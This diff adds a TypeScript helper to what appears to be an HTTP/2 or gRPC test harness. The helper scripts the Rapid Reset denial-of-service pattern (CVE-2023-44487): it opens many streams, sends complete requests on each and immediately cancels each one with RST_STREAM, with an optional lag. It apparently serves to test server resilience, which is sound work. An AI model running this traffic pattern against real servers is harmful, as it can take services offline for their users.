@@ -1,0 +1,41 @@
+import { encodeMessage } from './length-prefixed-message';
+import { ordinaryFields, type CallOptions, type PlanBuilder } from './plan-builder';
+import type { CallRequest } from './call-request';
+import { rstStream } from '../wire/builders';
+import { errorCodes } from '../wire/error-codes';
+import { joinOctets } from '../wire/join-octets';
+
+export interface RapidResets extends Pick<CallOptions, 'metadata'> {
+  /** Connection; opened if it is not. */
+  readonly on: string;
+  /** Number of streams. */
+  readonly count: number;
+  /** Streams by which the resets lag behind the requests; 0 resets each stream at once. */
+  readonly lag: number;
+}
+
+/**
+ * Complete requests, each of them reset at once (CVE-2023-44487). They are no calls of the script: nobody judges thousands of streams that were meant to
+ * come to nothing.
+ * @returns the stream id that a call afterwards must take
+ */
+export function resetRapidly(
+  peer: PlanBuilder,
+  request: CallRequest,
+  { on, count, lag, metadata }: RapidResets,
+): number {
+  if (!peer.openConnections.includes(on)) peer.open({ on });
+  const fields = ordinaryFields(peer.facts, request.path, metadata === undefined ? {} : { metadata });
+  const octets = joinOctets(request.messages.map((message) => encodeMessage(message)));
+  const first = peer.nextStream(on);
+  const streamOf = (index: number): number => first + 2 * index;
+  for (let index = 0; index < count + lag; index++) {
+    if (index < count) {
+      const stream = streamOf(index);
+      peer.step({ do: 'headers', on, stream, fields, endStream: false });
+      peer.step({ do: 'data', on, stream, octets, endStream: true });
+    }
+    if (index >= lag) peer.frame(rstStream(streamOf(index - lag), errorCodes.CANCEL), on);
+  }
+  return streamOf(count);
+}
